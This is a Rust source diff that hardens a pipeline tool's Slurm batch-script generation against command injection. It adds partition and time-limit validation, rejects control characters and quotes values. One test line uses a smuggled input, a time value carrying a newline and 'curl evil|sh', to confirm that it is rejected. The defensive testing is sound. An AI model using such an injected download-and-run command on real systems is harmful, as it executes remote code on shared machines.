@@ -10,6 +10,7 @@
 use crate::config::FrameRange;
 use crate::error::{Error, Result};
 use crate::runner::Job;
+use crate::shell::{quote, refuse_control, sbatch_quote};
 use std::path::{Path, PathBuf};
 
 /// What `pipeline slurm` was asked for.
@@ -83,13 +84,25 @@ pub fn split(frames: &[u32], n: usize) -> Vec<FrameRange> {
     out
 }
 
-/// Single-quotes `s` for a POSIX shell.
-fn quote(s: &str) -> String {
-    format!("'{}'", s.replace('\'', r"'\''"))
-}
-
 fn absolute(p: &Path) -> Result<PathBuf> {
     std::path::absolute(p).map_err(|e| Error::io(p, e))
+}
+
+/// Whether `t` is one of Slurm's time-limit formats (`--time`).
+fn valid_time(t: &str) -> bool {
+    if matches!(t, "UNLIMITED" | "INFINITE" | "unlimited" | "infinite") {
+        return true;
+    }
+    let (days, rest) = match t.split_once('-') {
+        Some((d, r)) => (Some(d), r),
+        None => (None, t),
+    };
+    let number = |s: &str| !s.is_empty() && s.len() <= 6 && s.chars().all(|c| c.is_ascii_digit());
+    if days.is_some_and(|d| !number(d)) {
+        return false;
+    }
+    let parts: Vec<&str> = rest.split(':').collect();
+    parts.len() <= 3 && parts.iter().all(|p| number(p))
 }
 
 /// The batch plan of `job` (its selected frames) under `opts`.
@@ -99,6 +112,29 @@ pub fn plan(job: &Job, opts: &SlurmOptions) -> Result<Plan> {
     }
     if opts.cpus == 0 {
         return Err(Error::Usage("--cpus must be at least 1".into()));
+    }
+    // Every value that goes into a script or an `#SBATCH` line: control characters are
+    // refused (a newline would start a command), the rest is quoted where it is written.
+    if let Some(p) = &opts.partition {
+        refuse_control("--partition", p)?;
+        if p.is_empty()
+            || !p
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || "_.,-".contains(c))
+        {
+            return Err(Error::Usage(format!(
+                "--partition {p:?}: a partition name (or a comma-separated list) holds letters, \
+                 digits, '_', '.' and '-'"
+            )));
+        }
+    }
+    refuse_control("--time", &opts.time)?;
+    if !valid_time(&opts.time) {
+        return Err(Error::Usage(format!(
+            "--time {:?} is not a Slurm time limit: write minutes, MM:SS, HH:MM:SS, D-HH, \
+             D-HH:MM or D-HH:MM:SS (or UNLIMITED)",
+            opts.time
+        )));
     }
     let mut frames = job.frames.clone();
     frames.sort_unstable();
@@ -111,6 +147,13 @@ pub fn plan(job: &Job, opts: &SlurmOptions) -> Result<Plan> {
     let config = absolute(&job.config.path)?;
     let program = absolute(&opts.program)?;
     let dir = absolute(&job.cache.root.join("slurm"))?;
+    for (what, p) in [
+        ("the pipeline file's path", &config),
+        ("the pipeline program's path", &program),
+        ("the cache folder's path", &dir),
+    ] {
+        refuse_control(what, &p.display().to_string())?;
+    }
     let all = FrameRange {
         first: frames[0],
         last: frames[frames.len() - 1],
@@ -126,10 +169,10 @@ pub fn plan(job: &Job, opts: &SlurmOptions) -> Result<Plan> {
              #SBATCH --output={}\n",
             opts.cpus,
             opts.time,
-            dir.join(log).display()
+            sbatch_quote(&dir.join(log).display().to_string())
         );
         if let Some(p) = &opts.partition {
-            h += &format!("#SBATCH --partition={p}\n");
+            h += &format!("#SBATCH --partition={}\n", sbatch_quote(p));
         }
         h
     };
@@ -236,6 +279,7 @@ mod tests {
         assert_eq!(as_pairs, [(0, 2), (3, 4), (5, 6)]);
         assert_eq!(split(&frames, 20).len(), 7);
         assert_eq!(split(&frames, 1).len(), 1);
-        assert_eq!(quote("a'b"), r"'a'\''b'");
+        assert!(valid_time("04:00:00") && valid_time("2-12") && valid_time("90"));
+        assert!(!valid_time("01:00:00\ncurl evil|sh") && !valid_time("") && !valid_time("1:2:3:4"));
     }
 }
